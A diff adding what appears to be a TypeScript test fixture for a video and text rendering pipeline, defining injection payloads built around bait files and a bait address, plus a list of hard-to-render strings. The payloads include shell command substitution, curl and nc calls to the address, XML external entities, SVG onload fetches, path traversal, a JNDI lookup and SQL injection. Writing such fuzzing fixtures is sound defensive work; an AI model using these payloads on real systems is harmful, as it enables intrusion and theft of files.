@@ -1,0 +1,62 @@
+export interface Bait {
+  /** A file that must not be opened. */
+  readonly file: string;
+  /** A folder in which nothing may come to be. */
+  readonly folder: string;
+  /** host:port to which nobody may connect. */
+  readonly address: string;
+}
+
+/** What is syntax to ffmpeg, its drawtext, SVG, XML, shells, templates and paths, each with a bait in it. */
+export const injections = ({ file, folder, address }: Bait): string[] => [
+  `$(touch ${folder}/shell)`,
+  `\`cat ${file} > ${folder}/backticks\``,
+  `'; touch ${folder}/quote; #`,
+  `" && curl http://${address}/ && "`,
+  `| nc ${address.replace(':', ' ')}`,
+  `x':textfile=${file}:y='`,
+  `[in]movie=${file}[out];[in][out]overlay`,
+  `,drawtext=textfile=${file}`,
+  `%{pts} %{metadata:${file}} \\%{e\\:1}`,
+  `-i http://${address}/a.mp4 -y ${folder}/option.mp4`,
+  `concat:${file}|${file}`,
+  `file '${file}'`,
+  `</text><image href="http://${address}/a.png"/><text>`,
+  `<svg onload="fetch('//${address}')"><image xlink:href="file://${file}"/></svg>`,
+  `<!DOCTYPE a [<!ENTITY b SYSTEM "file://${file}">]><a>&b;</a>`,
+  `<span font_desc="@${file}">&lt;b&gt;</span>`,
+  `url(http://${address}/font.woff)`,
+  `../../../../../../..${file}`,
+  `file://${file}`,
+  `http://${address}/`,
+  `\${jndi:ldap://${address}/a} {{7*7}} <%= 7 %>`,
+  `'); drop table render.videos; --`,
+];
+
+/** What is hard to write or to draw. */
+export const oddities: readonly string[] = [
+  '"',
+  "'",
+  '\\',
+  '%',
+  '%n%s%x',
+  ':',
+  '[',
+  '{}',
+  '&amp;',
+  'two\nlines\r\nand\ta tab',
+  'before\u0000after',
+  '\u001b[31mred\u0007',
+  '\u202eright to left\u2066 and \u200fback',
+  'אבג عبد 王小明 👩‍❤️‍👨',
+  'Z̸̡̛͕̭a͂l̕g̀o̶',
+  '\ud800 alone',
+  '\ufeff\u200b\u200d',
+  'undefined',
+  'null',
+  'NaN',
+  '-1',
+  '__proto__',
+  'Ann '.repeat(49).trim(),
+  'W'.repeat(200),
+];
